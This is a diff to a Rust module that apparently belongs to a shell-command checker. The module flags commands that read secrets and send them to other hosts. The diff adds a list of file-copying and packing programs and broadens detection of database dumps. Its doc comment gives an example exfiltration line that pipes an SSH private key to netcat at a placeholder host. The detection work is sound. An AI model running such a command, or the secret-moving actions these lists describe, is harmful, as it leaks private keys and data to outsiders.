@@ -1,11 +1,16 @@
 //! Secrets that are read and sent by one text: `cat ~/.ssh/id_ed25519 | nc HOST 1`.
 
-use super::writes::{Files, is_credential};
+use super::writes::{Files, is_credential, is_private};
 use crate::program::table::ProgramTable;
 use crate::program::table::call::Call;
-use crate::program::table::row::Prints;
+use crate::program::table::row::{Prints, Takes};
 use crate::shell::place::Place;
 use crate::shell::word::{UNKNOWN, Word};
+use crate::word_list::is_listed;
+
+/// Programs that print or pack what files hold.
+const COPIERS: &str = "
+    cat tac head tail tar gtar bsdtar zip 7z gzip pigz xz zstd bzip2 base64 xxd gpg age openssl cpio pax dd rsync";
 
 /// Whether a command reads a file that holds secrets, or prints the environment.
 pub(crate) fn reads_secrets(
@@ -21,29 +26,42 @@ pub(crate) fn reads_secrets(
     {
         return true;
     }
+    if is_listed(program, COPIERS) && args.iter().any(|word| is_private(files, &word.text)) {
+        return true;
+    }
     let reads = table.row(program).is_some_and(|row| row.reads_files);
     reads && args.iter().any(|word| is_credential(files, &word.text))
 }
 
 /// Whether a program prints what a database holds.
-pub(crate) fn dumps(program: &str) -> bool {
-    matches!(
-        program,
-        "pg_dump"
-            | "pg_dumpall"
-            | "mysqldump"
-            | "mariadb-dump"
-            | "mongodump"
-            | "mongoexport"
-            | "slapcat"
-            | "ldapsearch"
-    )
+pub(crate) fn dumps(program: &str, args: &[Word]) -> bool {
+    let asks = |name: &str| args.iter().any(|word| word.text.starts_with(name));
+    let is_dump = match program {
+        "sqlite3" | "sqlite" => asks(".dump"),
+        "redis-cli" | "valkey-cli" => asks("--rdb"),
+        "influx" | "influxd" => asks("backup"),
+        _ => false,
+    };
+    is_dump
+        || matches!(
+            program,
+            "pg_dump"
+                | "pg_dumpall"
+                | "mysqldump"
+                | "mariadb-dump"
+                | "mongodump"
+                | "mongoexport"
+                | "mydumper"
+                | "slapcat"
+                | "ldapsearch"
+        )
 }
 
-/// Whether a program sends to an address that anybody may answer for: not to a host that it logs in to.
+/// Whether a program sends to another machine what it reads: to an address, or to a host that it logs in to.
 pub(crate) fn is_foreign(table: &ProgramTable, program: &str) -> bool {
     let row = table.row(program);
-    row.is_some_and(|row| row.prints == Some(Prints::Fetched)) && program != "openssl"
+    row.is_some_and(|row| row.prints == Some(Prints::Fetched) || row.takes == Some(Takes::Carrier))
+        && program != "openssl"
 }
 
 /// Whether a command sends what it reads, or what its words hold.
